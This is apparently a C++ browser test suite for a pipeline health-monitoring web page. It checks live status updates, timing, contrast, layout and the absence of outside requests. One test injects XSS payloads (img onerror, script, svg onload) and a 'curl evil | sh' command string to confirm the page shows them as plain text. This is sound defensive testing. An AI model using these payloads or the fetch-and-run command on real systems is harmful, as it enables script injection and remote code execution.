// The live page in a real browser, of the real pipeline.
#define BOOST_TEST_MODULE healthd_page
#include <algorithm>
#include <boost/test/unit_test.hpp>
#include <cstdlib>

#include "common/status_names.hpp"
#include "common/status_sender.hpp"
#include "tests/support/browser.hpp"
#include "tests/support/pipeline_fixture.hpp"
#include "tests/support/programs.hpp"

using namespace fraiseql::test;
using namespace std::chrono_literals;

namespace {

std::int64_t unix_ms() {
  return std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::system_clock::now().time_since_epoch()).count();
}

struct PageFixture : PipelineFixture {
  PageFixture() : PipelineFixture(Settings{{"health", "expect_bridges = 1\nexpect_executors = 2\n"}}) {}

  std::optional<Child> healthd{program(HEALTHD, "healthd")};
  Browser browser;
  const std::string address = "http://127.0.0.1:" + std::to_string(health_port) + "/";

  void open() {
    BOOST_REQUIRE(eventually([&] { return http_get(health_port, "/livez").status == 200; }));
    browser.open(address);
  }
  /// The text of an element of the page.
  std::string text(const std::string& selector) { return browser.run("const e = document.querySelector('" + selector + "'); return e ? e.textContent : '(none)';"); }
  bool shows(const std::string& selector, const std::string& words, std::chrono::seconds limit = 30s) {
    return eventually([&] { return text(selector).find(words) != std::string::npos; }, limit);
  }
  Later page() { return {[this] { return browser.run("return document.body.innerText"); }}; }
  int points() { return std::atoi(browser.run("return document.querySelector('#charts .line1').getAttribute('d').split('L').length").c_str()); }

  /// For people to look at: with the variable, into that folder.
  void picture(const std::string& name) {
    if (const char* folder = std::getenv("FRAISEQL_TEST_SCREENSHOTS")) browser.screenshot(std::string(folder) + "/" + name + ".png");
  }

  void asks_only_healthd() {
    const auto urls = browser.requests();
    BOOST_TEST(!urls.empty());
    for (const std::string& url : urls) BOOST_TEST((url.starts_with(address) || url.starts_with("data:")), url);
  }
  void console_is_empty() {
    for (const std::string& line : browser.console()) BOOST_ERROR("on the console: " << line);
  }
};

/// The lowest contrast between a text of the page and what is behind it, and which text that is.
constexpr const char* lowest_contrast = R"(
  const parse = (text) => { const m = text.match(/[\d.]+/g).map(Number); return m.length < 4 ? [...m, 1] : m; };
  const light = (c) => { const [r, g, b] = c.map((v) => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; }); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const ground = (e) => { for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor); if (c[3] === 1) return c; } return [255, 255, 255, 1]; };
  let worst = [99, ''];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node; (node = walker.nextNode());) {
    const e = node.parentElement;
    if (!node.textContent.trim() || !e.checkVisibility() || ['SCRIPT', 'STYLE'].includes(e.tagName)) continue;
    const [a, b] = [light(parse(getComputedStyle(e).color)), light(ground(e))];
    const contrast = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (contrast < worst[0]) worst = [contrast, node.textContent.trim()];
  }
  return worst[0].toFixed(2) + ' ' + worst[1];)";

}  // namespace

BOOST_FIXTURE_TEST_SUITE(healthd_page, PageFixture)

BOOST_AUTO_TEST_CASE(it_shows_what_flows_and_who_is_killed_and_when_healthd_is_gone) {
  std::optional<Child> bridge{program(PG2NATS_BRIDGE, "bridge")};
  std::optional<Child> first{program(EXECUTOR, "executor-1")}, second{program(EXECUTOR, "executor-2")};
  open();
  BOOST_TEST(shows("#level", "ok"), page());
  BOOST_TEST(eventually([&] { return browser.is("document.title === 'fraiseql observers'"); }));
  BOOST_TEST(shows("#processes", "executor-2"), page());
  BOOST_TEST(shows("#pipeline", "bridge leads"), page());

  // Rates on the arrows, in their order.
  const auto flows = [&](int arrow) { return "parseFloat(document.querySelectorAll('.arrow b')[" + std::to_string(arrow) + "].textContent) > 0"; };
  BOOST_TEST(eventually([&] {
    insert(20);
    return browser.is(flows(0) + "&&" + flows(1) + "&&" + flows(2) + "&&" + flows(3));
  }), page());
  picture("flowing");

  // A killed executor, by the clock of the browser, which is the clock of this machine.
  browser.run(R"(
    window.shownAt = 0;
    new MutationObserver(() => {
      for (const row of document.querySelectorAll('#processes tbody tr'))
        if (row.cells[2].textContent === 'executor-2' && /late|silent/.test(row.cells[0].textContent) && !window.shownAt) window.shownAt = Date.now();
    }).observe(document.querySelector('#processes'), {subtree: true, childList: true, characterData: true});)");
  const std::int64_t killed_at = unix_ms();
  second->kill();
  BOOST_TEST(eventually([&] { return browser.is("window.shownAt > 0"); }), page());
  const std::int64_t took = std::atoll(browser.run("return window.shownAt").c_str()) - killed_at;
  BOOST_TEST_MESSAGE("a killed executor is shown after " << took << " ms");
  BOOST_TEST(took <= 3000);
  BOOST_TEST(shows("#level", "degraded"), page());
  BOOST_TEST(shows("#reasons", "executor executor-2 on "), page());
  BOOST_TEST(shows("#reasons code", "fraiseql check"), page());
  browser.click("#reasons button");
  BOOST_TEST(shows("#said", "Copied: fraiseql check"), text("#said"));
  second.emplace(program(EXECUTOR, "executor-2"));
  BOOST_TEST(shows("#level", "ok"), page());

  // What healthd has seen is there again after a reload. Enough of it, so that it cannot have gathered since.
  BOOST_TEST(eventually([&] { return points() >= 20; }), page());
  const int before = points();
  browser.reload();
  BOOST_TEST(shows("#link", "live"), page());
  BOOST_TEST(points() >= before);
  console_is_empty();

  healthd->kill();
  BOOST_TEST(shows("#gone", "healthd has not answered since "), page());
  BOOST_TEST(browser.is("document.querySelector('#gone').checkVisibility()"));
  BOOST_TEST(text("#link") == "healthd does not answer");
  BOOST_TEST(text("#level") == "unknown");
  BOOST_TEST(shows("#processes", "executor-2"));  // what it said last
  picture("gone");
  healthd.emplace(program(HEALTHD, "healthd"));
  BOOST_TEST(shows("#link", "live"), page());
  BOOST_TEST(!browser.is("document.querySelector('#gone').checkVisibility()"));
  BOOST_TEST(shows("#level", "ok"), page());
  for (const std::string& line : browser.console()) BOOST_TEST(line.find("net::ERR_CONNECTION_REFUSED") != std::string::npos, line);
  asks_only_healthd();
}

BOOST_AUTO_TEST_CASE(it_can_be_read_in_light_and_dark_and_on_a_phone_and_without_motion) {
  std::optional<Child> bridge{program(PG2NATS_BRIDGE, "bridge")}, executor{program(EXECUTOR, "executor-1")};
  open();
  BOOST_TEST(shows("#reasons", "1 of 2 expected executors report"), page());
  BOOST_TEST(shows("#processes", "executor-1"), page());
  insert(50);
  for (const char* scheme : {"light", "dark"}) {
    browser.prefer(scheme);
    BOOST_TEST(browser.is("matchMedia('(prefers-color-scheme: " + std::string(scheme) + ")').matches"));
    const std::string lowest = browser.run(lowest_contrast);
    BOOST_TEST(std::atof(lowest.c_str()) >= 4.5, scheme << ": " << lowest);
    for (const int width : {1280, 800, 360}) {
      browser.resize(width, 900);
      BOOST_TEST(browser.is("[document.documentElement, ...document.querySelectorAll('section')].every((e) => e.scrollWidth <= e.clientWidth)"), scheme << " at " << width);
      picture(std::string(scheme) + "-" + std::to_string(width));
    }
  }
  const std::string motion = "getComputedStyle(document.querySelector('.arrow i')).animationName";
  browser.run("document.querySelector('.arrow').className = 'arrow flows'");
  browser.prefer("light", true);
  BOOST_TEST(browser.run("document.querySelector('.arrow').className = 'arrow flows'; return " + motion) == "none");
  browser.prefer("light", false);
  BOOST_TEST(browser.run("document.querySelector('.arrow').className = 'arrow flows'; return " + motion) != "none");
  console_is_empty();
  asks_only_healthd();
}

BOOST_AUTO_TEST_CASE(without_a_broker_the_pipeline_has_neither_bridge_nor_stream) {
  file = directory.file("postgres.toml", "[transport]\ntransport = \"postgres\"\n[health]\nlisten = \"127.0.0.1:" + std::to_string(health_port) +
                                             "\"\nstatus_endpoint = \"ipc://" + (directory / "status").string() + "\"\n");
  healthd->kill();
  healthd.emplace(program(HEALTHD, "healthd"));
  std::optional<Child> executor{program(EXECUTOR, "executor-1")};
  open();
  BOOST_TEST(shows("#level", "ok"), page());
  BOOST_TEST(shows("#pipeline", "1 process reports"), page());
  BOOST_TEST(browser.run("return [...document.querySelectorAll('#pipeline h3')].map((e) => e.textContent).join()") == "PostgreSQL,Executors,Actions");
  insert(5);
  BOOST_TEST(eventually([&] { return browser.is("parseFloat(document.querySelector('.arrow b').textContent) > 0"); }), page());
  console_is_empty();
}

BOOST_AUTO_TEST_CASE(what_a_hostile_process_says_stays_text) {
  fraiseql::HealthConfig config;
  config.status_endpoints = {"ipc://" + (directory / "status").string()};
  const std::string name = R"(<img src=x onerror="window.owned=1"><script>window.owned=1</script>)";
  fraiseql::StatusSender sender{config, "executor", name};
  fraiseql::StatusReport report;
  report.state = "<b>running</b>";
  report.transport = "nats";
  report.problems["<i>drift</i>"] = "<svg onload=window.owned=1> Run: fraiseql check; curl evil | sh";
  report.details["held"] = "<u>1</u>";
  report.metrics.count(fraiseql::metric::events_failed, {{"error_type", "<s>x</s>"}});
  open();
  BOOST_TEST(eventually([&] {
    sender.send(report);
    return text("#processes").find(name) != std::string::npos && text("#reasons").find("<svg onload") != std::string::npos;
  }), page());
  BOOST_TEST(text("#processes").find("<b>running</b>") != std::string::npos);
  BOOST_TEST(shows("#letters", "<s>x</s>"));
  BOOST_TEST(browser.is("[...document.querySelectorAll('#reasons code')].every((code) => /^fraiseql [a-z -]+$/.test(code.textContent))"));
  BOOST_TEST(browser.is("window.owned === undefined && document.querySelectorAll('img, b img, svg[onload], s, u').length === 0"));
  // The policy would stop it, too.
  BOOST_TEST(browser.run("try { document.body.innerHTML = '<p>'; return 'set'; } catch (e) { return e.name; }") == "TypeError");
  for (const std::string& line : browser.console()) BOOST_TEST(line.find("TrustedHTML") != std::string::npos, line);
  asks_only_healthd();
}

BOOST_AUTO_TEST_SUITE_END()
